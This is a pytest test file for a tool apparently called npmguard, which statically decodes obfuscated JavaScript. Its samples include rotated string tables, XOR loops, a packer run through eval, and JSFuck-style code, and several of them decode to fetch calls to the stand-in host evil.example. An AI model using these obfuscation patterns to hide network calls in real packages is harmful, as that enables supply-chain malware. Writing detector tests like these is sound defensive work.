from __future__ import annotations

import pytest

from npmguard.model import FactKind
from tests.javascript_facts import facts, names, one, strings

TABLE = "function t(){var a=['push','nX2','fetch','7up','evil.example'];t=function(){return a};return t()}"
DECODER = "function d(i,k){i=i-0x10;var s=t()[i];return s}"
ROTATION = (
    "(function(f,n){var a=f();while(!![]){try{var s=parseInt(d(0x10))/1+parseInt(d(0x11))*2;"
    "if(s===n)break;else a['push'](a['shift']())}catch(e){a['push'](a['shift']())}}}(t,17))"
)


def test_a_table_of_strings_is_read_as_its_rotation_leaves_it() -> None:
    code = f"{TABLE}{DECODER}" + ROTATION.replace("parseInt(d(0x11))*2", "10")
    assert "fetch" in strings(f"{code};x(d(0x14))")
    assert names(f"{code};globalThis[d(0x14)](d(0x11))", FactKind.CALL)[-1] == "fetch"
    call = facts(f"{code};globalThis[d(0x14)](d(0x11))", FactKind.CALL)[-1]
    assert call.args == ("evil.example",)
    assert call.decoded


def test_without_what_rotates_it_a_table_is_read_as_it_stands() -> None:
    assert "fetch" in strings(f"{TABLE}{DECODER};x(d(0x12))")


def test_wrappers_and_other_names_of_a_decoder_are_followed() -> None:
    code = f"{TABLE}{DECODER};const o={{q:2}};function u(a,b){{return d(a,b)}}"
    code += "function w(a,b){return u(b- -o.q,a)}const v=w;"
    assert "fetch" in strings(f"{code};x(v('key',0x10))")


def test_a_table_that_somebody_else_may_change_is_not_guessed() -> None:
    code = "var a=['fetch','x'];function d(i){return a[i]};function set(n){a=n}"
    assert "fetch" not in [fact.value for fact in facts(f"{code};x(d(0))", FactKind.STRING) if fact.decoded]


def test_a_decoder_that_answers_otherwise_the_next_time_is_not_guessed() -> None:
    code = "var n=0;function d(){n++;return 'abcdef'.charAt(n)+'-'}"
    assert not [fact for fact in facts(f"{code};x(d())", FactKind.STRING) if fact.decoded]


def test_what_touches_the_outside_is_not_guessed() -> None:
    code = "function d(i){return typeof location === 'undefined' ? 'a' + i : 'b' + i}"
    assert not [fact for fact in facts(f"{code};x(d('c'),d('e'))", FactKind.STRING) if fact.decoded]


def test_calls_through_an_object_of_functions_are_calls_of_what_they_are_given() -> None:
    code = "const o={abc:function(f,a,b){return f(a,b)},def:function(f,...r){return o2.xyz(f,...r)}};"
    code += "const o2={'xyz':(f,x)=>f(x)};"
    call = facts(f"{code};o.abc(fetch,'https://a.example',{{}})", FactKind.CALL)[0]
    assert (call.name, call.args[0]) == ("fetch", "https://a.example")
    assert "eval" in names(f"{code};o['def'](eval,'1')", FactKind.CALL)
    assert "fs.readFileSync" in names(f"{code};o.abc(require,'fs').readFileSync('x')", FactKind.CALL)


def test_a_loop_over_characters_is_worked_out() -> None:
    code = "function x(s,k){var r='';"
    code += "for(var i=0;i<s.length;i++){r+=String.fromCharCode(s.charCodeAt(i)^k)}return r}"
    assert "https" in strings(f"{code};y(x('kwwsp',3))")


XOR_LOOP = (
    "const k='ab';let o='';const d='0503';for(let i=0;i<d.length;i+=2)"
    "o+=String.fromCharCode(parseInt(d.substr(i,2),16)^k.charCodeAt(i/2%k.length));y(o)"
)


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("var s='';for(var i=0,c=[107,119];i<c.length;i++){s+=String.fromCharCode(c[i]-3)};y(s)", "ht"),
        (XOR_LOOP, "da"),
        ("function f(){let i=0,r='',t=[105,104];while(i<2){r=String.fromCharCode(t[i++])+r}y(r)}", "hi"),
        ("y(Buffer.from('69757571','hex').map(b=>b^1).toString())", "http"),
        ("y(['ht','tp'].reduce((a,b)=>a+b,''))", "http"),
        ("y('pt-th'.split('-').map(x=>x.split('').reverse().join('')).reverse().join(''))", "http"),
        ("y((()=>{let r='';for(const n of [104,105])r+=String.fromCharCode(n);return r})())", "hi"),
        ("y(((a,b)=>[...a].filter((_,i)=>i%b==0).join(''))('hXtYtZp',2))", "http"),
        ("y((![]+[])[+[]]+(!![]+[])[+[]])", "ft"),
        ("y(([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]])", "c"),
        ("y(JSON.parse('{\"a\":[\"x\",\"http\"]}').a.map(x=>x)[1])", "http"),
        ("y(Array.from('GSSO',x=>String.fromCharCode(x.charCodeAt(0)+1)).join(''))", "HTTP"),
    ],
)  # fmt: skip
def test_decoders_that_stand_where_they_are_used_are_worked_out(code: str, expected: str) -> None:
    assert any(fact.args == (expected,) for fact in facts(code, FactKind.CALL) if fact.name == "y")


@pytest.mark.parametrize(
    "code",
    [
        "let s='';for(let i=0;i<2;i++)s+=String.fromCharCode(input[i]);y(s)",
        "let s='';y(s);for(let i=0;i<2;i++)s+=String.fromCharCode(104+i)",
        "let s='';if(a)for(let i=0;i<2;i++)s+=String.fromCharCode(104+i);y(s)",
        "let s='';function f(){s='x'}for(let i=0;i<2;i++)s+=String.fromCharCode(104+i);y(s)",
        "let s='';for(let i=0;i<2;i++){s+=String.fromCharCode(104+i);if(Math.random()>2)break}y(s)",
    ],
)
def test_what_depends_on_more_than_the_file_is_not_guessed(code: str) -> None:
    assert [fact.args for fact in facts(code, FactKind.CALL) if fact.name == "y"] == [(None,)]


def test_packed_code_is_read_as_what_it_unpacks_to() -> None:
    code = "eval(function(p,c,k){while(c--)p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}"
    code += "('0(\\'1://2\\')',3,'fetch|https|evil.example'.split('|')))"
    assert one(code, FactKind.CALL, "fetch").args == ("https://evil.example",)


def test_code_in_six_characters_names_what_it_calls() -> None:
    flat = "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]"
    assert one(f"{flat}['constructor']('return this')().fetch('u')", FactKind.CALL, "fetch").args == ("u",)
